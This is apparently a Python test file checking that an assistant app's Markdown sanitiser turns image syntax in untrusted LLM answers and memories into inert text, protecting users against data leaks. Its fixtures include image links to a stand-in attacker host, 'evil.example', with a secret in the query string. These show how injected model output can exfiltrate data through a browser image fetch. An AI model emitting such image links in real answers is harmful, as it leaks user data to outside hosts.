"""Untrusted Markdown (LLM answers, memories) never makes the browser fetch an image."""

from __future__ import annotations

from jarvis.ui.markdown import ZERO_WIDTH_SPACE as ZW
from jarvis.ui.markdown import inert_markdown

LEAK = "http://evil.example/p.png?d=secret"


def test_inline_reference_and_nested_images_become_links() -> None:
    assert inert_markdown(f"logo: ![logo]({LEAK}).") == f"logo: !{ZW}[logo]({LEAK})."
    assert inert_markdown("![a][r]\n\n[r]: " + LEAK) == f"!{ZW}[a][r]\n\n[r]: " + LEAK
    assert inert_markdown(f"[![x]({LEAK})](http://a)") == f"[!{ZW}[x]({LEAK})](http://a)"
    # no code-block parsing to fool: a fence that a list item closes early stays safe
    tricky = f"- item\n  ```\n![x]({LEAK})\n`a\\`![y]({LEAK})`"
    assert "![" not in inert_markdown(tricky)


def test_text_without_images_is_unchanged() -> None:
    for text in ("no images here", "[a link](http://a)", "wow! [x]", "**bold** `code`"):
        assert inert_markdown(text) == text
